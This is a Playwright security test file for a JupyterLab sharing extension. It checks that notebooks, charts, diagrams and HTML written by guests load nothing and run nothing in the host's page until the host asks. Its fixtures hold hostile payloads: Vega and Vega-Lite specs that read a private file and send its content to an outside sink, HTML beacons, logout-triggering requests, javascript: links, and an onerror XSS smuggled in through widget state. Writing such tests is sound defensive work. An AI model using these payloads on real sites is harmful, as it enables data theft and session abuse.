/** What a page does with content that others may have written: it draws what is inert, and loads nothing. */
import { Page } from '@playwright/test';
import * as fs from 'fs';
import * as path from 'path';

import { command, expect, open, test, untilLoaded } from './support/fixtures';
import { Sink } from './support/sink';

const SECRET = '/api/contents/secret.txt';

const kernelspec = { name: 'python3', display_name: 'Python 3' };
const notebook = (cells: object[], metadata: object = {}) =>
  JSON.stringify({
    cells,
    metadata: { kernelspec, ...metadata },
    nbformat: 4,
    nbformat_minor: 5
  });
const markdown = (source: string, id: string) => ({
  ...{ cell_type: 'markdown', id, source, metadata: {} }
});
const code = (outputs: object[], id: string, source = '') => ({
  ...{ cell_type: 'code', id, source, metadata: {}, execution_count: null },
  outputs: outputs.map(data => ({
    ...{ output_type: 'display_data', data, metadata: { isolated: true } }
  }))
});

/** Charts that fetch a file of the host's which nobody shares, and take it elsewhere. */
const vega = (sink: string) => ({
  $schema: 'https://vega.github.io/schema/vega/v5.json',
  ...{ width: 50, height: 50 },
  data: [{ name: 't', url: `${SECRET}?content=1`, format: { type: 'json' } }],
  marks: [
    {
      type: 'image',
      from: { data: 't' },
      encode: {
        enter: {
          url: { signal: `'${sink}/vega?' + datum.content` },
          ...{ width: { value: 20 }, height: { value: 20 } }
        }
      }
    }
  ]
});
const vegaLite = (sink: string) => ({
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  data: { url: `${SECRET}?content=1`, format: { type: 'json' } },
  transform: [{ calculate: `'${sink}/vl?' + datum.content`, as: 'u' }],
  mark: { type: 'image', width: 20, height: 20 },
  encoding: { url: { field: 'u' } }
});

/** HTML that JupyterLab's sanitizer lets pass. */
const loading = (sink: string, where: string) => `
<img class="loads" alt="a plot from elsewhere" src="${sink}/${where}-img">
<img srcset="${sink}/${where}-srcset 1x"><img src="/logout">
<img src="logout"><img src="../../../../../logout"><video poster="../../../../../logout"></video>
<img src="x/../../https:${sink.slice('http://'.length)}/${where}-path">
<a class="link" href="x/../../javascript:window.hacked=1">Read more</a>
<video src="${sink}/${where}-video" poster="${sink}/${where}-poster" autoplay></video>
<audio src="${sink}/${where}-audio" autoplay></audio>
<table background="${sink}/${where}-table"><tr><td>1</td></tr></table>
<div style="background: url(${sink}/${where}-css)">1</div>
<div style="background-image: u\\72l(${sink}/${where}-escaped)">1</div>
<ul><li style="list-style-image: url('${sink}/${where}-list')">1</li></ul>
<link rel="stylesheet" href="${sink}/${where}-link">
<style>@import "${sink}/${where}-style";</style>
<button data-commandlinker-command="apputils:change-theme"
  data-commandlinker-args='{"theme":"JupyterLab Dark"}'>Show the figures</button>`;

const mermaid = (sink: string) => `
\`\`\`mermaid
%%{init: {"securityLevel": "loose", "themeCSS": ".node rect { fill: url(${sink}/mermaid-css) }"}}%%
flowchart LR
  A["<img src='${sink}/mermaid-img'/>"] --> B
  click A href "javascript:window.hacked=1"
\`\`\``;

const latex = (sink: string) =>
  String.raw`$\mmlToken{mglyph}[src="${sink}/glyph"]{}\style{background:url(${sink}/latex)}{x}\href{javascript:window.hacked=1}{y}$`;

/** A layout with a page of help, which is somebody's page. */
const workspace = (sink: string) => {
  const widgets = ['help-doc:1'];
  const area = { type: 'tab-area', currentIndex: 0, widgets };
  return {
    data: {
      'layout-restorer:data': { main: { dock: area, current: widgets[0] } },
      [widgets[0]]: { data: { url: `${sink}/help`, text: 'Help' } }
    },
    metadata: { id: 'brought' }
  };
};

const files = (sink: string) => ({
  'secret.txt': 'not shared',
  'd/w.jupyterlab-workspace': JSON.stringify(workspace(sink)),
  'd/f.pdf': '%PDF-1.4',
  'd/n.ipynb': notebook([
    markdown(`# Heading <img src="${sink}/heading">`, 'm1'),
    markdown(loading(sink, 'markdown'), 'm2'),
    markdown(mermaid(sink), 'm3'),
    markdown(latex(sink), 'm4'),
    markdown('```mermaid\nflowchart LR\n  A --> B\n```', 'm5'),
    code(
      [
        {
          'application/vnd.vega.v5+json': vega(sink),
          'text/plain': 'the first chart'
        },
        { 'application/vnd.vegalite.v5+json': vegaLite(sink) },
        { 'text/html': `<h2>Output</h2>${loading(sink, 'output')}` },
        { 'image/svg+xml': `<svg><image href="${sink}/svg"/></svg>` },
        { 'text/markdown': `![a](${sink}/output-markdown)` },
        { 'text/latex': latex(sink) }
      ],
      'c1'
    )
  ]),
  'd/n.md': `${loading(sink, 'file')}\n\n${mermaid(sink)}`,
  'd/c.vl.json': JSON.stringify(vegaLite(sink)),
  'd/c.vg.json': JSON.stringify(vega(sink)),
  'd/p.html': `<meta http-equiv="refresh" content="0;url=${sink}/refresh">
    <p id="here">here</p>${loading(sink, 'html')}<iframe src="${sink}/frame"></iframe>`
});

/**
 * What the server answered to this page that nobody may ask for in its name. A request that a frame's policy has blocked
 * is told as a request, too, but never answered.
 */
function misused(page: Page): string[] {
  const found: string[] = [];
  page.on('response', response => {
    const { pathname } = new URL(response.url());
    if (pathname === SECRET || /^(?:\/lab.*)?\/logout$/.test(pathname)) {
      found.push(response.url());
    }
  });
  return found;
}

let sink: Sink;
test.beforeAll(async () => {
  sink = await Sink.start();
});
test.afterAll(() => sink.stop());
test('[TRUST-34] [TRUST-40] [TRUST-41] [TRUST-42] [TRUST-46] content of others runs nothing and loads nothing in the host’s page until asked', async ({
  lab
}) => {
  for (const [name, text] of Object.entries(files(sink.origin))) {
    lab.server.write(name, text);
  }
  const { link } = await lab.share({ paths: ['d'], role: 'editor' });
  const host = await lab.hostPage();
  const asked = misused(host);
  await open(host, 'd/n.ipynb');
  await expect(host.getByText('the first chart')).toBeVisible();
  const notices = host.locator('.jp-cohost-unvouched-notice');
  await expect(notices).toHaveCount(2);
  await expect(notices.first()).toContainText('The chart is not shown');
  const diagrams = host.locator('.jp-RenderedMermaid');
  await expect(diagrams.locator('img')).toHaveCount(1);
  await expect(diagrams.filter({ hasText: 'themeCSS' })).toHaveCount(1);
  await expect(host.locator('mjx-container')).toHaveCount(2);
  await command(host, 'toc:show-panel');
  await expect(host.locator('.jp-tocItem').first()).toContainText('Heading');
  await expect(host.locator('.jp-OutputArea-output iframe')).toHaveCount(0);
  const links = host
    .locator('.jp-Notebook')
    .getByRole('link', { name: 'Read more' });
  await expect(links.first()).toHaveAttribute('href', /\/files\//);
  await expect(host.locator('a[href^="javascript:" i]')).toHaveCount(0);

  const theme = () => host.locator('body').getAttribute('data-jp-theme-light');
  const light = await theme();
  const buttons = host.getByRole('button', { name: 'Show the figures' });
  await buttons.first().click();
  await buttons.last().click();
  const factory = 'Markdown Preview';
  await command(host, 'docmanager:open', { path: 'd/n.md', factory });
  await host.locator('.jp-MarkdownViewer').getByRole('button').click();

  for (const chart of ['d/c.vl.json', 'd/c.vg.json']) {
    await open(host, chart);
    const ask = host.locator('.jp-cohost-viewer-notice:visible');
    await expect(ask).toContainText('not drawn by itself');
  }
  await open(host, 'd/f.pdf');
  const asks = host.locator('.jp-cohost-viewer-notice:visible');
  await expect(asks).toContainText('not drawn by itself');
  await open(host, 'd/w.jupyterlab-workspace');
  await expect(asks).toContainText('not loaded by itself');
  await open(host, 'd/p.html');
  const frame = host.frameLocator('.jp-HTMLViewer iframe');
  await expect(frame.locator('#here')).toBeVisible();

  const guest = await lab.guestPage(link);
  await untilLoaded(guest);
  await open(guest, 'd/n.ipynb');
  const same = guest.locator('.jp-cohost-unvouched-notice');
  await expect(same).toHaveCount(2);
  await expect(same.first()).toContainText('The host can show it');

  // What is asked for comes; so what would have come before is there by now.
  await open(host, 'd/n.ipynb');
  expect(sink.asked).toEqual([]);
  expect(asked).toEqual([]);
  expect(await theme()).toBe(light);
  await host
    .locator('.jp-MarkdownCell .jp-cohost-not-loaded')
    .filter({ hasText: 'a plot from elsewhere' })
    .click();
  await expect
    .poll(() => sink.asked)
    .toEqual(expect.arrayContaining(['/markdown-img', '/output-img']));
  expect(
    sink.asked.filter(path => /mermaid|file|html|vl|vega/.test(path))
  ).toEqual([]);
  expect(await theme()).toBe(light);
  expect(asked).toEqual([]);

  await open(host, 'd/c.vl.json');
  await host.getByRole('button', { name: 'Show', exact: true }).click();
  await expect.poll(() => asked.length).toBeGreaterThan(0);
});

interface IRegistries {
  jupyterapp: {
    docRegistry: {
      widgetFactories(): Iterable<{ name: string }>;
      fileTypes(): Iterable<{ name: string }>;
    };
    shell: {
      currentWidget: { content: { rendermime: { mimeTypes: string[] } } };
    };
  };
}

test('[TRUST-40] every renderer, viewer and file type that JupyterLab registers stands in the table of docs/attacks.md', async ({
  lab
}) => {
  lab.server.write('n.ipynb', notebook([]));
  const host = await lab.hostPage('n.ipynb');
  await host.locator('.jp-Notebook').waitFor();
  const registered = await host.evaluate(() => {
    const { docRegistry, shell } = (window as unknown as IRegistries)
      .jupyterapp;
    return [
      ...shell.currentWidget.content.rendermime.mimeTypes,
      ...[...docRegistry.widgetFactories()].map(({ name }) => name),
      ...[...docRegistry.fileTypes()].map(({ name }) => name)
    ];
  });
  expect(registered).toContain('application/vnd.vega.v5+json');
  const table = fs.readFileSync(
    path.resolve(__dirname, '../docs/attacks.md'),
    'utf8'
  );
  expect(registered.filter(name => !table.includes(`\`${name}\``))).toEqual([]);
});

const chart = (value: number) =>
  `display({"application/vnd.vegalite.v5+json": {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"values": [{"a": ${value}}]}, "mark": "bar", "encoding": {"x": {"field": "a"}}}, "text/plain": "chart"}, raw=True)`;

test('[TRUST-43] a chart stands once in the file and in every page, with the picture that the runner’s page adds', async ({
  lab
}) => {
  lab.server.write(
    'd/n.ipynb',
    notebook([
      code([], 'c1', `print("before")\n${chart(2)}\nprint("after")`),
      markdown('words', 'm1')
    ])
  );
  const links = [
    await lab.share({ paths: ['d'], role: 'editor' }),
    await lab.share({ paths: ['d'], role: 'viewer' })
  ];
  const host = await lab.hostPage('d/n.ipynb');
  const guests = await Promise.all(
    links.map(({ link }, at) => lab.guestPage(link, `Guest ${at}`))
  );
  for (const guest of guests) {
    await guest.locator('.jp-Notebook .jp-CodeCell').first().waitFor();
  }
  await host
    .locator('.jp-Notebook-ExecutionIndicator[data-status="idle"]')
    .waitFor({ state: 'attached', timeout: 120_000 });
  await command(host, 'notebook:run-all-cells');
  const pages = [host, ...guests];
  for (const page of pages) {
    await expect(
      page.locator('.vega-embed canvas, .vega-embed svg').first()
    ).toBeVisible();
  }
  interface INotebook {
    cells: { outputs?: { data?: object }[]; source: string | string[] }[];
  }
  const saved = () => JSON.parse(lab.server.read('d/n.ipynb')) as INotebook;
  await expect.poll(() => JSON.stringify(saved())).toContain('image/png');
  await guests[0].locator('.jp-MarkdownCell').dblclick();
  await guests[0]
    .locator('.jp-MarkdownCell .cm-content')
    .pressSequentially('more ');
  await expect.poll(() => String(saved().cells[1].source)).toContain('more');
  expect(saved().cells[0].outputs).toHaveLength(3);
  for (const page of pages) {
    await expect(page.locator('.jp-OutputArea-output')).toHaveCount(3);
    await expect(page.locator('.jp-OutputArea-output').last()).toHaveText(
      /after/
    );
  }
  const again = await lab.hostPage('d/n.ipynb');
  await expect(
    again.locator('.vega-embed canvas, .vega-embed svg').first()
  ).toBeVisible();
});

const WIDGET = 'ab'.repeat(16);
const widgets = (value: string) => {
  const base = { model_module: '@jupyter-widgets/base' };
  const controls = { model_module: '@jupyter-widgets/controls' };
  const version = { model_module_version: '2.0.0' };
  const layout = 'a1'.repeat(16);
  const style = 'a2'.repeat(16);
  const state = {
    [layout]: { ...base, ...version, model_name: 'LayoutModel', state: {} },
    [style]: {
      ...controls,
      ...version,
      model_name: 'HTMLStyleModel',
      state: {}
    },
    [WIDGET]: {
      ...{ ...controls, ...version, model_name: 'HTMLModel' },
      state: {
        layout: `IPY_MODEL_${layout}`,
        ...{ style: `IPY_MODEL_${style}`, value }
      }
    }
  };
  return {
    'application/vnd.jupyter.widget-state+json': {
      ...{ version_major: 2, version_minor: 0, state }
    }
  };
};

test.describe('widgets', () => {
  const view = {
    'application/vnd.jupyter.widget-view+json': {
      ...{ model_id: WIDGET, version_major: 2, version_minor: 0 }
    },
    'text/plain': "HTML(value='hello')"
  };
  test.use({
    serverOptions: {
      trusted: true,
      files: {
        'analysis.ipynb': JSON.stringify({
          cells: [
            {
              ...{ cell_type: 'code', id: 'c1', source: '', metadata: {} },
              execution_count: 1,
              outputs: [
                { output_type: 'display_data', data: view, metadata: {} }
              ]
            }
          ],
          metadata: { kernelspec, widgets: widgets('hello') },
          ...{ nbformat: 4, nbformat_minor: 5 }
        })
      }
    }
  });

  test('[TRUST-44] state that an editor writes reaches no widget manager; without a kernel, a widget is text and a sentence', async ({
    lab
  }) => {
    const host = await lab.hostPage('analysis.ipynb');
    const shown = host.locator('.jp-OutputArea-output');
    await expect(
      host.locator('.widget-html, .jupyter-widgets').first()
    ).toContainText('hello', { timeout: 120_000 });
    const { link } = await lab.share({
      paths: ['analysis.ipynb'],
      role: 'editor'
    });
    const guest = await lab.guestPage(link, 'Mallory');
    await expect(guest.locator('.jp-OutputArea-output').first()).toContainText(
      'HTML(value="hello")'
    );
    await expect(guest.locator('.jp-cohost-unvouched-notice')).toContainText(
      'only for people who may run code'
    );
    await guest.evaluate(state => {
      const { jupyterapp } = window as unknown as {
        jupyterapp: {
          shell: {
            currentWidget: {
              content: {
                model: {
                  sharedModel: {
                    ymeta: {
                      get(key: string): { set(k: string, v: unknown): void };
                    };
                  };
                };
              };
            };
          };
        };
      };
      jupyterapp.shell.currentWidget.content.model.sharedModel.ymeta
        .get('metadata')
        .set('widgets', state);
    }, widgets('<img src=x onerror="window.hacked=1"><i class="evil">evil</i>'));
    await expect
      .poll(() => lab.server.read('analysis.ipynb'))
      .toContain('evil');
    await host.reload();
    await expect(shown).toContainText('model not found', { timeout: 120_000 });
    await expect(host.locator('.evil')).toHaveCount(0);
    expect(
      await host.evaluate(
        () => (window as unknown as { hacked?: 1 }).hacked ?? 0
      )
    ).toBe(0);
    expect(lab.errors.filter(error => /TypeError/.test(error))).toEqual([]);
  });
});
